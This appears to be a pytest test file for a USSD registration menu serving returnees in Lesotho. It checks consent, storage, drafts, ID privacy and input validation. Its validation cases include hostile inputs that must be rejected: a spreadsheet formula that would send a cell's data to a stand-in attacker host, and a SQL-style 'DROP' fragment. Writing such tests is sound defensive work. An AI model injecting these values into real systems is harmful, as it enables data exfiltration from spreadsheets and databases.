"""Registration by USSD: the questions in order, what is stored, consent, races, and the 24-hour draft."""

from __future__ import annotations

import json

import pytest
from sqlalchemy import Text, func, select, type_coerce

from menus.registration import current_year
from menus.session import draft_key, language_key
from models.crypto import national_id_digest
from models.grants import Grant, GrantStatus
from models.held import HeldRegistration
from models.messages import MessageKind, OutboundMessage
from models.people import Beneficiary, Contact
from models.reference import is_valid_reference
from notifications.sms.queues import TRANSACTIONAL_QUEUE
from tests.menus.conftest import GOOD_ANSWERS, OTHER_PHONE, PHONE, Phone, register

VILLAGE_REASON = "Enter 2 to 60 letters or digits; no signs other than ' - . , ( )"

# The first words of each registration screen, in the order of the menu contract.
PROMPTS = (
    "Registration. Enter your full name:",
    "Sex:\n1 Female\n2 Male",
    "Year of birth",
    "District:\n1 Berea\n2 Butha-Buthe\n3 Leribe\n4 Mafeteng\n5 Maseru\n6 Mohale's Hoek\n7 Mokhotlong\n"
    "8 Qacha's Nek\n9 Quthing\n10 Thaba-Tseka",
    "Village or community council:",
    "Where did you return from?\n1 South Africa\n2 Other country",
    "Year you came back",
    "National ID number (99 to skip):",
    "How many people live in your household?",
    "Your main need:\n1 Start or grow a business\n2 Farming\n3 Skills training\n4 Find a job\n5 Other",
    "The programme will keep these details",
)


def count(db, model) -> int:
    with db.session() as session:
        return session.execute(select(func.count()).select_from(model)).scalar_one()


def confirm_pages(phone: Phone) -> str:
    """Every page of the confirm screen, joined."""
    pages = [phone.response.body]
    while "98 More" in pages[-1]:
        pages.append(phone.send("98"))
    return "\n".join(pages)


@pytest.mark.usefixtures("english")
def test_registration_asks_one_question_a_screen_in_the_contract_order(phone):
    phone.dial()
    screens = [phone.send("1")]
    for answer in GOOD_ANSWERS[:-1]:
        screens.append(phone.send(answer))
    for screen, prompt in zip(screens, PROMPTS, strict=True):
        assert screen.removeprefix("CON ").startswith(prompt), (screen, prompt)
    assert "1 Agree\n2 Do not agree" in screens[-1]


@pytest.mark.usefixtures("english")
def test_completed_registration_writes_beneficiary_grant_and_sms_in_one_go(phone, db, redis):
    phone.dial()
    phone.send("1")
    phone.walk(*GOOD_ANSWERS)
    summary = confirm_pages(phone)
    for shown in (
        "Thabo Mokoena",
        "Male",
        "1985",
        "Maseru",
        "Ha Abia",
        "South Africa, 2020",
        "LS12345",
        "Farming",
        "1 Confirm",
        "2 Start again",
    ):
        assert shown in summary
    body = phone.send("1")

    assert body.startswith("END Thank you, Thabo. You are registered. Your reference is ")
    with db.session() as session:
        beneficiary = session.execute(select(Beneficiary)).scalar_one()
        assert (beneficiary.full_name, beneficiary.sex, beneficiary.year_of_birth, beneficiary.district) == (
            "Thabo Mokoena",
            "male",
            1985,
            "Maseru",
        )
        assert (beneficiary.village, beneficiary.returned_from, beneficiary.year_of_return) == (
            "Ha Abia",
            "south_africa",
            2020,
        )
        assert (beneficiary.national_id, beneficiary.household_size, beneficiary.main_need) == ("LS12345", 5, "farming")
        assert beneficiary.phone == PHONE and beneficiary.consent_at is not None
        assert beneficiary.reference in body and is_valid_reference(beneficiary.reference)
        assert session.execute(select(Grant.status)).scalar_one() == GrantStatus.REGISTERED
        message = session.execute(select(OutboundMessage)).scalar_one()
        assert message.kind == MessageKind.REGISTRATION_CONFIRMATION and message.phone == PHONE
        assert "Dear Thabo" in message.body and beneficiary.reference in message.body
    assert redis.get(draft_key(PHONE)) is None
    assert redis.llen(f"rq:queue:{TRANSACTIONAL_QUEUE}") == 1  # the confirmation's send, enqueued after the commit


@pytest.mark.usefixtures("sesotho")
def test_registration_in_sesotho_confirms_in_sesotho(phone, db):
    phone.dial()
    assert phone.send("1").startswith("CON Ngoliso. Kenya lebitso la hau ka botlalo:")
    phone.walk(*GOOD_ANSWERS)
    assert "Lebitso: Thabo Mokoena" in confirm_pages(phone)
    assert phone.send("1").startswith("END Kea leboha, Thabo. U ngolisitsoe.")
    with db.session() as session:
        assert session.execute(select(OutboundMessage.language)).scalar_one() == "st"


@pytest.mark.usefixtures("english")
def test_national_id_can_be_skipped_with_99(phone, db):
    phone.dial()
    phone.send("1")
    answers = list(GOOD_ANSWERS)
    answers[7] = "99"
    phone.walk(*answers)
    assert "ID: -" in confirm_pages(phone)
    phone.send("1")
    with db.session() as session:
        assert session.execute(select(Beneficiary.national_id)).scalar_one() is None


@pytest.mark.usefixtures("english")
def test_declining_consent_stores_nothing_and_deletes_the_draft(phone, db, redis):
    phone.dial()
    phone.send("1")
    phone.walk(*GOOD_ANSWERS[:-1])
    assert redis.get(draft_key(PHONE)) is not None
    body = phone.send("2")
    assert body.startswith("END No problem: nothing was saved.")
    assert redis.get(draft_key(PHONE)) is None
    assert count(db, Beneficiary) == 0 and count(db, OutboundMessage) == 0
    with db.session() as session:  # only the language chosen before registering is known about the number
        assert session.execute(select(Contact.phone)).scalars().all() == [PHONE]


@pytest.mark.usefixtures("english")
def test_start_again_on_the_confirm_screen_clears_the_answers(phone, redis):
    phone.dial()
    phone.send("1")
    phone.walk(*GOOD_ANSWERS)
    assert phone.send("2").startswith("CON Registration. Enter your full name:")
    assert redis.get(draft_key(PHONE)) is None
    phone.send("Lineo Lebona")
    assert json.loads(redis.get(draft_key(PHONE)))["answers"] == {"full_name": "Lineo Lebona"}


@pytest.mark.usefixtures("english")
def test_a_registration_that_lost_the_race_shows_the_existing_reference(phone, db):
    phone.dial()
    phone.send("1")
    phone.walk(*GOOD_ANSWERS)
    # The same person finished on another session of the same number meanwhile.
    reference = register(db, name="Thabo  MOKOENA", year_of_birth=1985)
    body = phone.send("1")
    assert body == f"END Thabo is already registered with this number. The reference is {reference}."
    assert count(db, Beneficiary) == 1 and count(db, OutboundMessage) == 0


HELD_END = "END Thank you. We need to check some of your details. A programme officer will contact you soon."


def held_rows(db) -> list[tuple]:
    with db.session() as session:
        stored_token = type_coerce(HeldRegistration.__table__.c.national_id_cipher, Text).label("token")
        return session.execute(
            select(
                HeldRegistration.full_name,
                HeldRegistration.district,
                HeldRegistration.national_id,
                HeldRegistration.national_id_hash,
                stored_token,
                HeldRegistration.status,
            )
        ).all()


@pytest.mark.usefixtures("english")
@pytest.mark.parametrize("when", ["before", "meanwhile"])
def test_a_taken_national_id_is_held_for_staff_and_the_caller_learns_nothing(phone, db, when):
    """Typing a stranger's ID must not tell the caller that the stranger is registered: the same kind answer as
    any check, the registration kept aside for staff, the ID stored encrypted like a beneficiary's."""
    if when == "before":
        register(db, OTHER_PHONE, national_id="LS12345")
    phone.dial()
    phone.send("1")
    phone.walk(*GOOD_ANSWERS)
    if when == "meanwhile":
        register(db, OTHER_PHONE, national_id="LS12345")
    body = phone.send("1")
    assert body == HELD_END
    assert "already" not in body.lower() and "ID" not in body
    assert count(db, Beneficiary) == 1 and count(db, OutboundMessage) == 0
    [(name, district, national_id, digest, token, status)] = held_rows(db)
    assert (name, district, national_id, status) == ("Thabo Mokoena", "Maseru", "LS12345", "held")
    assert digest == national_id_digest("LS12345") and "LS12345" not in token
    assert phone.dial().startswith("CON ")  # the draft is gone: the next dial is a fresh menu, not "continue?"
    assert "unfinished" not in phone.response.body


@pytest.mark.usefixtures("english")
def test_a_number_can_type_only_a_few_national_ids_a_day(phone, db, settings):
    """One phone cannot try ID after ID: past NATIONAL_ID_ATTEMPTS_PER_DAY the question says to contact the office,
    and skipping still works."""
    limit = settings.national_id_attempts_per_day
    phone.dial()
    phone.send("1")
    phone.walk(*GOOD_ANSWERS[:7])
    for attempt in range(limit):
        assert "How many people" in phone.send(f"LS1000{attempt}")
        phone.send("0")  # back to the ID question, to type another
    body = phone.send("LS99999")
    assert body.startswith("CON Too many ID tries today. Please contact the programme office.\nNational ID number")
    assert "How many people" in phone.send("99")
    with db.session() as session:
        assert session.execute(select(func.count()).select_from(HeldRegistration)).scalar_one() == 0


@pytest.mark.usefixtures("english")
@pytest.mark.parametrize(
    ("step", "bad", "reason"),
    [
        (0, "Thabo 2", "Enter your name in letters only."),
        (0, "T", "Enter your name in letters only."),
        (0, "A" * 61, "Enter your name in letters only."),
        (1, "3", "Invalid choice."),
        (2, "85", "Enter a year like 1985."),
        (2, "nineteen", "Enter a year like 1985."),
        (2, str(current_year() - 14), f"Enter a year from {current_year() - 100} to {current_year() - 15}."),
        (2, str(current_year() - 101), f"Enter a year from {current_year() - 100} to {current_year() - 15}."),
        (3, "11", "Invalid choice."),
        (3, "05", "Invalid choice."),
        (4, "H", VILLAGE_REASON),
        (4, "x" * 61, VILLAGE_REASON),
        (4, '=HYPERLINK("http://evil.example/?"&A2,"Maseru")', VILLAGE_REASON),
        (4, "+27 Maseru", VILLAGE_REASON),
        (4, "Maseru@home", VILLAGE_REASON),
        (4, "Ha Abia; DROP", VILLAGE_REASON),
        (0, "=Thabo Mokoena", "Enter your name in letters only."),
        (0, "@Thabo", "Enter your name in letters only."),
        (5, "0x", "Invalid choice."),
        (6, "1989", f"Enter a year from 1990 to {current_year()}."),
        (6, str(current_year() + 1), f"Enter a year from 1990 to {current_year()}."),
        (7, "AB12", "Enter 5 to 20 letters or digits."),
        (7, "LS-12345", "Enter 5 to 20 letters or digits."),
        (7, "A" * 21, "Enter 5 to 20 letters or digits."),
        (8, "31", "Enter a number from 1 to 30."),
        (8, "zero", "Enter a number from 1 to 30."),
        (9, "6", "Invalid choice."),
        (10, "3", "Invalid choice."),
        (11, "4", "Invalid choice."),
    ],
)
def test_invalid_answers_ask_the_same_question_again_with_a_reason(phone, step, bad, reason):
    phone.dial()
    phone.send("1")
    asked = phone.walk(*GOOD_ANSWERS[:step]) if step else phone.response.body
    body = phone.send(bad)
    question = asked.removeprefix("CON ")
    assert body == f"CON {reason}\n{question}" or body.startswith(f"CON {reason}\n{question.split(chr(10))[0]}")
    assert phone.response.end is False


@pytest.mark.usefixtures("english")
def test_villages_and_names_may_hold_digits_and_plain_punctuation(phone):
    phone.dial()
    phone.send("1")
    phone.walk("Thabo (Junior) Mokoena", "2", "1985", "5", "Ha Abia (Maseru), No. 2", "1", "2020", "99", "5", "2", "1")
    summary = confirm_pages(phone)
    assert "Name: Thabo (Junior) Mokoena\n" in summary and "Village: Ha Abia (Maseru), No. 2\n" in summary


@pytest.mark.usefixtures("english")
def test_year_of_return_before_birth_is_refused(phone):
    phone.dial()
    phone.send("1")
    phone.walk("Thabo Mokoena", "2", "2000", "5", "Ha Abia", "1")
    assert phone.send("1995").startswith("CON That is before your year of birth.\nYear you came back")


@pytest.mark.usefixtures("english")
def test_answers_are_normalised(phone):
    phone.dial()
    phone.send("1")
    phone.walk("  Thabo   Mokoena ", "2", "1985", "5", "Ha  Abia", "1", "2020", "ls12345", "5", "2", "1")
    summary = confirm_pages(phone)
    assert "Name: Thabo Mokoena\n" in summary and "Village: Ha Abia\n" in summary and "ID: LS12345\n" in summary


@pytest.mark.usefixtures("english")
def test_changing_the_year_of_birth_after_the_year_of_return_asks_the_return_again(phone, redis):
    phone.dial()
    phone.send("1")
    phone.walk("Thabo Mokoena", "2", "1985", "5", "Ha Abia", "1", "2005")
    for _ in range(5):  # back from the ID question to the year of birth
        phone.send("0")
    assert "Year of birth" in phone.response.body
    # The answers in between are kept: the next question is the first one without a (valid) answer.
    assert phone.send("2008").startswith("CON Year you came back")
    assert "year_of_return" not in json.loads(redis.get(draft_key(PHONE)))["answers"]


@pytest.mark.usefixtures("english")
def test_unfinished_registration_is_offered_on_the_next_dial_and_resumes(engine, phone, redis, settings):
    phone.dial()
    phone.send("1")
    phone.walk("Thabo Mokoena", "2", "1985")
    assert 0 < redis.ttl(draft_key(PHONE)) <= settings.registration_draft_ttl_seconds
    assert redis.ttl(draft_key(PHONE)) > settings.ussd_session_ttl_seconds

    later = Phone(engine)  # the session dropped; a new one from the same number
    body = later.dial()
    assert body.startswith("CON You have an unfinished registration.\n1 Continue\n2 Start again")
    assert later.send("1").startswith("CON District:")
    later.walk(*GOOD_ANSWERS[3:])
    assert "Name: Thabo Mokoena" in confirm_pages(later)
    assert later.send("1").startswith("END Thank you, Thabo.")
    assert redis.get(draft_key(PHONE)) is None
    assert not later.dial().startswith("CON You have an unfinished")


@pytest.mark.usefixtures("english")
def test_unfinished_registration_can_be_started_again(engine, phone, redis):
    phone.dial()
    phone.send("1")
    phone.walk("Thabo Mokoena", "2")
    later = Phone(engine)
    later.dial()
    assert later.send("2").startswith("CON Registration. Enter your full name:")
    assert redis.get(draft_key(PHONE)) is None


@pytest.mark.usefixtures("english")
def test_unfinished_registration_is_also_offered_under_register(engine, phone):
    phone.dial()
    phone.send("1")
    phone.send("Thabo Mokoena")
    later = Phone(engine)
    later.dial()
    later.send("0")  # back to the main menu from the offer
    assert later.response.body.startswith("CON Returnee support")
    assert later.send("1").startswith("CON You have an unfinished registration.")


def test_unfinished_registration_is_offered_after_the_language_choice(engine, phone, db, redis):
    phone.dial()
    phone.send("1")
    phone.send("1")
    phone.send("Thabo Mokoena")
    with db.session() as session:  # the language is forgotten (the number's first registration, say, was erased)
        session.execute(Contact.__table__.update().values(language=None))
    redis.delete(language_key(phone.number))  # as menus.session says anything that changes the language must
    later = Phone(engine)
    assert "1 English" in later.dial()
    assert later.send("1").startswith("CON You have an unfinished registration.")


@pytest.mark.usefixtures("english")
def test_a_draft_of_a_number_that_registered_since_is_dropped(engine, phone, db, redis):
    phone.dial()
    phone.send("1")
    phone.send("Thabo Mokoena")
    register(db)
    assert Phone(engine).dial().startswith("CON Returnee support")
    assert redis.get(draft_key(PHONE)) is None
